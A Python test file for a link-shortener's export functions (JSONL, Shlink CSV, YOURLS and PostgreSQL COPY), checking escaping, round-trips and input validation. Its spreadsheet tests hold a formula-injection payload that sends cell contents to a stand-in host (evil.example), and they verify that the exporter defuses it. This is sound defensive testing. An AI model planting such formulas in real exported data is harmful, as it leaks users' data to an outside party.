"""Rows as other systems read them: each export is read back by a reader of its own kind."""

import csv
import io
import json
from datetime import UTC, datetime

import builders
import pytest

from engage_text import StoreError, prepare
from engage_text.codes import CAPACITY
from engage_text.exports import POSTGRES_DDL, jsonl, postgres_copy, shlink_csv, yourls_rows
from engage_text.links import LinkRow

EXPIRES = datetime(2027, 1, 31, 18, 30, tzinfo=UTC)
NASTY = "a\tb\nc\\d\"e',|{}\r\u20b9 \\N"
ROWS = [
    LinkRow(
        "https://su.digo.link/x/AbC1234", "su.digo.link", "AbC1234", 7, "https://example.in/a?b=1,2&c=%22"
    ),
    LinkRow(
        "https://su.digo.link/abC1234",
        "su.digo.link",
        "abC1234",
        8,
        "https://example.in/\u0928\u092e\u0938\u094d\u0924\u0947",
        NASTY,
        ("x", NASTY),
        EXPIRES,
    ),
]


def test_a_link_that_occurs_twice_is_one_row():
    done = prepare(
        builders.request(
            type="promotional",
            from_="652322XXX",
            msg="https://example.in/a https://example.in/b https://example.in/a",
            dlr=builders.dlr(mask=0),
        ),
        shortener=builders.shortener(salt="s", title="Sale", tags=["diwali"], expires=EXPIRES),
        ids=5,
    )
    rows = [json.loads(line) for line in jsonl(done.links)]
    assert [(row["id"], row["target"]) for row in rows] == [
        (5, "https://example.in/a"),
        (6, "https://example.in/b"),
    ]
    assert {(row["title"], *row["tags"], row["expires"]) for row in rows} == {
        ("Sale", "diwali", "2027-01-31T18:30:00+00:00")
    }
    assert len(list(shlink_csv(done.links))) == len(list(postgres_copy(done.links))) - 1 == 3


def test_jsonl_has_one_line_per_link_with_all_its_fields():
    lines = list(jsonl(ROWS))
    assert all(line.endswith("\n") and line.count("\n") == 1 for line in lines)
    for line, row in zip(lines, ROWS, strict=True):
        back = json.loads(line)
        assert LinkRow(**{**back, "tags": tuple(back["tags"]), "expires": row.expires}) == row
        assert back["expires"] == (row.expires and row.expires.isoformat())


def test_csv_reads_back():
    heads, *rows = csv.reader(io.StringIO("".join(shlink_csv(ROWS)), newline=""))
    assert heads[:3] == ["Long URL", "Short code", "Domain"]
    assert [dict(zip(heads, row, strict=True)) for row in rows] == [
        {
            "Long URL": row.target,
            "Short code": row.code,
            "Domain": row.domain,
            "Title": row.title,
            "Tags": "|".join(row.tags),
            "Valid until": row.expires.isoformat() if row.expires else "",
        }
        for row in ROWS
    ]


def test_yourls_rows():
    assert list(yourls_rows(ROWS)) == [{"keyword": r.code, "url": r.target, "title": r.title} for r in ROWS]


def _uncopied(cell: str) -> str:
    """Read a cell as PostgreSQL's COPY does: a slow obvious version of its escapes."""
    out, chars = "", iter(cell)
    for char in chars:
        out += {"t": "\t", "n": "\n", "r": "\r", "\\": "\\"}[next(chars)] if char == "\\" else char
    return out


def _items(array: str) -> tuple[str, ...]:
    """Read a text array as PostgreSQL does."""
    assert array[0] + array[-1] == "{}"
    items, quoted, chars = [], False, iter(array[1:-1])
    for char in chars:
        if char == '"':
            quoted = not quoted
            items += [""] if quoted else []
        elif quoted:
            items[-1] += next(chars) if char == "\\" else char
        else:
            assert char == ","
    return tuple(items)


def test_copy_reads_back():
    first, *lines, last = postgres_copy(ROWS)
    assert first.startswith("COPY short_links (domain, code, id, target, title, tags, expires) FROM stdin;")
    assert last == "\\.\n"
    assert all(line.count("\n") == 1 and line.count("\t") == 6 for line in lines)
    for line, row in zip(lines, ROWS, strict=True):
        *cells, expires = line[:-1].split("\t")
        domain, code, id_, target, title, tags = map(_uncopied, cells)
        moment = None if expires == "\\N" else datetime.fromisoformat(expires)
        assert LinkRow(row.url, domain, code, int(id_), target, title, _items(tags), moment) == row


def test_copy_leaves_out_nul():
    [_, line, _] = postgres_copy([ROWS[0]._replace(title="a\0b")])
    assert "\tab\t" in line


@pytest.mark.parametrize("column", ["domain", "code"])
def test_postgres_distinguishes_codes_by_case(column):
    assert f'{column} text COLLATE "C" NOT NULL' in POSTGRES_DDL


@pytest.mark.parametrize("export", [jsonl, shlink_csv, yourls_rows, postgres_copy])
def test_a_code_that_leads_to_two_places_is_an_error(export):
    """Two jobs with the same ids: to keep the first in silence would send the second's readers astray."""
    with pytest.raises(StoreError, match=r"su.digo.link/AbC1234 has two targets"):
        list(export([ROWS[0], ROWS[0]._replace(target="https://example.in/other")]))


EXPORTS = (jsonl, shlink_csv, yourls_rows, postgres_copy)


class TestWrongRows:
    @pytest.mark.parametrize("export", EXPORTS)
    @pytest.mark.parametrize("rows", [None, 5, "x", b"x", object()], ids=lambda rows: type(rows).__name__)
    def test_no_rows_are_our_error(self, export, rows):
        with pytest.raises(StoreError, match="rows must be"):
            list(export(rows))

    @pytest.mark.parametrize("export", EXPORTS)
    @pytest.mark.parametrize("row", ["x", None, 5, {}, ("a",)], ids=lambda row: type(row).__name__)
    def test_a_row_of_another_kind_is_our_error(self, export, row):
        with pytest.raises(StoreError, match=r"rows\[1\] must be a ShortLink or a LinkRow"):
            list(export([ROWS[0], row]))

    @pytest.mark.parametrize("export", EXPORTS)
    @pytest.mark.parametrize(
        "bad",
        [
            {"target": None},
            {"target": 5},
            {"code": b"AbC1234"},
            {"domain": ["x"]},
            {"url": None},
            {"url": "https://\udfff.in"},
            {"title": None},
            {"title": "\ud800"},
            {"tags": None},
            {"tags": "diwali"},
            {"tags": (5,)},
            {"tags": ("\udfff",)},
            {"id": "7"},
            {"id": True},
            {"id": -1},
            {"id": CAPACITY},
            {"expires": "2027-01-31"},
            {"expires": datetime(2027, 1, 31)},  # noqa: DTZ001 - the fault
        ],
        ids=ascii,
    )
    def test_a_field_of_another_type_is_our_error(self, export, bad):
        with pytest.raises(StoreError, match=r"^rows\[0\]: "):
            list(export([ROWS[1]._replace(**bad)]))


class TestSpreadsheets:
    """Excel and its like run a cell that begins as a formula does, and a title may come from anybody."""

    @pytest.mark.parametrize(
        "first", ["=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20"]
    )
    def test_a_title_or_tag_is_not_a_formula(self, first):
        title = f'{first}HYPERLINK("https://evil.example/?"&A1,"x")'
        row = ROWS[0]._replace(title=title, tags=(title, "b"))
        _, [_, _, _, shown, tags, _] = csv.reader(io.StringIO("".join(shlink_csv([row])), newline=""))
        assert shown == f"'{title}"
        assert tags == f"'{title}|b"

    @pytest.mark.parametrize("title", ["", "Sale", "5 = 5", "a-b", "'=1", "नमस्ते", " x", "\u20b9-50"])
    def test_any_other_is_as_it_was(self, title):
        _, [_, _, _, shown, _, _] = csv.reader(
            io.StringIO("".join(shlink_csv([ROWS[0]._replace(title=title)])))
        )
        assert shown == title

    def test_other_exports_keep_it(self):
        row = ROWS[0]._replace(title="=1")
        assert json.loads(next(jsonl([row])))["title"] == "=1"
        assert next(yourls_rows([row]))["title"] == "=1"
        assert "\t=1\t" in list(postgres_copy([row]))[1]
